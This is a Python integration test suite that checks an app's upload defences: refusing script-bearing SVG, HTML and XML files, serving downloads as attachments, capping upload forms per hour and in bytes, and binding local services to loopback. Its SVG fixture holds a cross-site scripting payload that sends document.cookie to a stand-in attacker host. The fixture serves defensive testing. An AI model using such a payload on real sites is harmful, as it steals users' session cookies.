"""Issue 16, items 6 and 8, attacked over real HTTP against `make run`'s server, DynamoDB Local and moto's S3.

Uploads: an SVG carrying a script (and HTML, XML) is refused by content requests and nearby responses, at the
upload form and, when the uploader sends S3 another type than the form's, at completion by the stored object's
type; nothing is recorded. Every presigned download is an attachment of the checked type. A link's upload forms
are capped an hour and in bytes, exactly, under concurrency. The local stack: DynamoDB Local, moto's server and the
API listen on loopback only."""
import ipaddress
import re
import shutil
import socket
import subprocess
import time
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import urlsplit

import requests

from tests.integration.test_content_requests_http import Owner, Recipient
from tests.integration.test_nearby_http import Client, unique

SVG = (b'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'https://evil.example/\'+document.cookie)">'
       b"<script>alert(document.domain)</script></svg>")
PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8
UPLOADED = (200, 201, 204)


def _post_to_s3(form: dict, data: bytes, content_type: str) -> requests.Response:
    """A presigned POST as an attacker sends it: the form's fields, but a Content-Type of their choosing. Real S3
    refuses a type the policy does not allow (403); moto's server stores it, so the API's own check is tested."""
    return requests.post(form["url"], data={**form["fields"], "Content-Type": content_type},
                         files={"file": ("x", data, content_type)}, timeout=30)


def _stored(stack, table: str, key: dict) -> dict:
    return stack.dynamodb().get_item(TableName=stack.table(table), Key=key, ConsistentRead=True).get("Item", {})


# --- content requests ---

def test_an_svg_with_a_script_is_refused_by_a_content_request_at_the_form_and_at_completion(local_stack):
    owner = Owner(local_stack, "upload-guard-owner@example.com")
    created = owner.ask(time_type="multi_use")
    recipient = Recipient(local_stack, created["token"])
    before = _stored(local_stack, "content-requests", {"id": {"N": str(created["id"])}})

    declared = {extension: recipient.call("POST", "/uploads", {"name": f"x.{extension}", "format_type": extension,
                                                               "media_type": "photo", "size": len(SVG)})
                for extension in ("svg", "html", "xml")}
    form = recipient.call("POST", "/uploads", {"name": "cake.png", "format_type": "png", "media_type": "photo",
                                               "size": len(SVG)}).json()
    posted = _post_to_s3(form, SVG, "image/svg+xml")
    completed = recipient.call("PUT", "/complete", {"media_files": [{
        "name": "cake", "s3_key": form["s3_key"], "format_type": "png", "media_type": "photo", "size": len(SVG)}]})

    photos = "Must be one of: jpg, jpeg, png, gif, heic, heif, webp."
    assert {extension: (r.status_code, r.json()) for extension, r in declared.items()} == dict.fromkeys(
        declared, (422, {"errors": [{"param": "format_type", "message": photos}]}))
    # The form pins the extension's one type: S3 itself would refuse the SVG.
    assert form["fields"]["Content-Type"] == "image/png"
    assert posted.status_code in (*UPLOADED, 403)
    assert (completed.status_code, completed.json()) == (422, {"errors": [{
        "param": "media_files[0][media_type]", "message": "The uploaded file's type is not accepted: a photo is one "
        "of image/gif, image/heic, image/heif, image/jpeg, image/png, image/webp"}]})
    # Nothing changed: no file recorded or kept, the request pending with no files.
    after = _stored(local_stack, "content-requests", {"id": {"N": str(created["id"])}})
    assert (after["status"], after["file_count"]) == (before["status"], before["file_count"]) == (
        {"S": "pending"}, {"N": "0"})
    assert owner.call("GET", f"/{created['id']}/media_files").json() == {"media_files": [], "meta": {"total_count": 0}}
    assert local_stack.keys_under(f"content-requests/{created['id']}/") == []


def test_a_content_request_file_downloads_as_an_attachment_of_its_checked_type(local_stack):
    owner = Owner(local_stack, "upload-guard-owner@example.com")
    created = owner.ask()
    recipient = Recipient(local_stack, created["token"])
    sent = recipient.upload(data=PNG)
    assert recipient.call("PUT", "/complete", {"media_files": [sent]}).status_code == 200

    [file] = owner.call("GET", f"/{created['id']}/media_files").json()["media_files"]
    downloaded = requests.get(file["url"], timeout=30)

    assert downloaded.content == PNG
    assert downloaded.headers["Content-Type"] == "image/png"
    assert downloaded.headers["Content-Disposition"] == "attachment; filename=\"cake.png\"; filename*=UTF-8''cake.png"


def _clear_of_the_hours_end() -> None:
    """Wait out the last 30 seconds of an hour: forms asked across two hours are counted in two."""
    now = datetime.now(UTC)
    if now.minute == 59 and now.second >= 30:
        time.sleep(61 - now.second)


def test_a_link_issues_at_most_100_upload_forms_an_hour_even_when_asked_at_once(local_stack):
    owner = Owner(local_stack, "upload-guard-owner@example.com")
    _clear_of_the_hours_end()
    created = owner.ask()
    recipient = Recipient(local_stack, created["token"])
    body = {"name": "cake.png", "format_type": "png", "media_type": "photo", "size": 1000}

    with ThreadPoolExecutor(20) as pool:
        answers = list(pool.map(lambda _: recipient.call("POST", "/uploads", body), range(120)))

    statuses = sorted(answer.status_code for answer in answers)
    assert statuses == [201] * 100 + [429] * 20, {a.status_code: a.text for a in answers}
    refused = [answer for answer in answers if answer.status_code == 429]
    assert {(r.json()["errors"][0]["param"], r.json()["errors"][0]["message"]) for r in refused} == {
        ("base", "At most 100 upload forms an hour per request: try again later")}
    assert all(1 <= int(r.headers["Retry-After"]) <= 3601 for r in refused)
    stored = _stored(local_stack, "content-requests", {"id": {"N": str(created["id"])}})
    assert (stored["forms_in_hour"], stored["upload_bytes"]) == ({"N": "100"}, {"N": "100000"})
    issued = local_stack.dynamodb().query(
        TableName=local_stack.table("content-request-media"), Select="COUNT", ConsistentRead=True,
        KeyConditionExpression="request_id = :id", ExpressionAttributeValues={":id": {"N": str(created["id"])}})
    assert issued["Count"] == 100


def test_a_links_upload_forms_allow_at_most_5_gb_in_all_even_when_asked_at_once(local_stack):
    owner = Owner(local_stack, "upload-guard-owner@example.com")
    created = owner.ask()
    recipient = Recipient(local_stack, created["token"])
    video = {"name": "party.mp4", "format_type": "mp4", "media_type": "video", "size": 1024 ** 3}  # a video's most

    with ThreadPoolExecutor(8) as pool:
        answers = list(pool.map(lambda _: recipient.call("POST", "/uploads", video), range(8)))
    one_more = recipient.call("POST", "/uploads", {**video, "size": 1})

    assert sorted(answer.status_code for answer in answers) == [201] * 5 + [422] * 3
    assert {answer.json()["errors"][0]["param"] for answer in answers if answer.status_code == 422} == {"size"}
    assert (one_more.status_code, one_more.json()) == (422, {"errors": [{"param": "size", "message": (
        "Must be at most 0: the files of a request may total at most 5368709120 bytes")}]})
    stored = _stored(local_stack, "content-requests", {"id": {"N": str(created["id"])}})
    assert stored["upload_bytes"] == {"N": str(5 * 1024 ** 3)}


# --- nearby responses ---

def test_an_svg_with_a_script_is_refused_as_a_nearby_response_at_the_form_and_by_its_stored_type(local_stack):
    asker, responder = (Client(local_stack, f"upload-guard-{who}@example.com") for who in ("asker", "responder"))
    request_id = asker.ask(51.5072, -0.1276, unique("What is the queue like?"))
    forms = f"/requests/{request_id}/responses/uploads"

    declared = [responder.call("POST", forms, {"type": 0, "contentType": content_type})
                for content_type in ("image/svg+xml", "text/html", "application/xml")]
    form = responder.call("POST", forms, {"type": 0}).json()  # no declared type: any image/... reaches S3
    posted = _post_to_s3(form, SVG, "image/svg+xml")
    created = responder.call("POST", f"/requests/{request_id}/responses", {"key": form["key"], "type": 0})

    assert [(r.status_code, r.json()) for r in declared] == [(400, {"error": "RESPONSE_MEDIA_TYPE_NOT_ALLOWED"})] * 3
    assert posted.status_code in UPLOADED
    assert (created.status_code, created.json()) == (400, {"error": "RESPONSE_MEDIA_TYPE_NOT_ALLOWED"})
    shown = asker.call("GET", f"/requests/{request_id}").json()
    assert (shown["responseCount"], shown["discoverResponses"]) == (0, [])
    assert asker.call("GET", f"/requests/{request_id}/responses").json() == []
    assert local_stack.keys_under(f"responses/{request_id}/") == []


def test_a_declared_response_type_is_pinned_and_its_media_downloads_as_an_attachment_of_it(local_stack):
    asker, responder = (Client(local_stack, f"upload-guard-{who}@example.com") for who in ("asker", "responder"))
    request_id = asker.ask(51.5072, -0.1276, unique("Is the park open?"))

    form = responder.call("POST", f"/requests/{request_id}/responses/uploads",
                          {"type": 0, "contentType": "image/png"}).json()
    posted = requests.post(form["url"], data=form["fields"], files={"file": ("p.png", PNG, "image/png")}, timeout=30)
    created = responder.call("POST", f"/requests/{request_id}/responses", {"key": form["key"], "type": 0})
    shown = asker.call("GET", f"/requests/{request_id}").json()

    assert form["fields"]["Content-Type"] == "image/png" and form["key"].endswith(".png")
    assert posted.status_code in UPLOADED
    assert created.status_code == 201, created.text
    for url in (created.json()["media"], shown["discoverResponses"][0]["media"]):
        downloaded = requests.get(url, timeout=30)
        assert downloaded.content == PNG
        assert (downloaded.headers["Content-Type"], downloaded.headers["Content-Disposition"]) == (
            "image/png", "attachment")


# --- the local stack listens on loopback only ---

def _listening_addresses(port: int) -> set[ipaddress.IPv4Address | ipaddress.IPv6Address]:
    """The local addresses of every listening TCP socket on `port`, read from /proc/net/tcp and tcp6."""
    found = set()
    for table, width in (("tcp", 8), ("tcp6", 32)):
        path = Path("/proc/net") / table
        if not path.exists():
            continue
        for line in path.read_text().splitlines()[1:]:
            local, state = line.split()[1], line.split()[3]
            address, _, hex_port = local.partition(":")
            if state != "0A" or int(hex_port, 16) != port:  # 0A: LISTEN
                continue
            # The kernel prints each 32-bit word of the address in host (little-endian) order.
            raw = b"".join(bytes.fromhex(address[i:i + 8])[::-1] for i in range(0, width, 8))
            found.add(ipaddress.ip_address(raw))
    return found


def _is_loopback(address) -> bool:
    mapped = getattr(address, "ipv4_mapped", None)
    return (mapped or address).is_loopback


def _other_addresses() -> list[str]:
    """This machine's IPv4 addresses that are not loopback (from `ip`, else from /proc/net/fib_trie)."""
    if shutil.which("ip"):
        shown = subprocess.run(["ip", "-o", "-4", "addr", "show"], capture_output=True, text=True).stdout
        candidates = re.findall(r"inet (\d+\.\d+\.\d+\.\d+)/", shown)
    else:
        trie = Path("/proc/net/fib_trie")
        text = trie.read_text() if trie.exists() else ""
        candidates = re.findall(r"\|-- (\d+\.\d+\.\d+\.\d+)\n\s+/32 host LOCAL", text)
    return sorted({a for a in candidates if not ipaddress.ip_address(a).is_loopback})


def test_dynamodb_local_moto_and_the_api_listen_on_loopback_only(local_stack):
    services = {"DynamoDB Local": local_stack.env["AWS_ENDPOINT_URL_DYNAMODB"],
                "moto": local_stack.env["AWS_ENDPOINT_URL_S3"], "API": local_stack.base_url}
    ports = {name: urlsplit(url).port for name, url in services.items()}

    listening = {name: _listening_addresses(port) for name, port in ports.items()}

    assert all(listening.values()), listening  # each was found listening
    assert {name: sorted(map(str, addresses)) for name, addresses in listening.items()
            if not all(map(_is_loopback, addresses))} == {}
    reached = []
    for address in _other_addresses():  # and nothing answers on the machine's other addresses
        for name, port in ports.items():
            with socket.socket() as sock:
                sock.settimeout(2)
                if sock.connect_ex((address, port)) == 0:
                    reached.append((name, address, port))
    assert reached == []
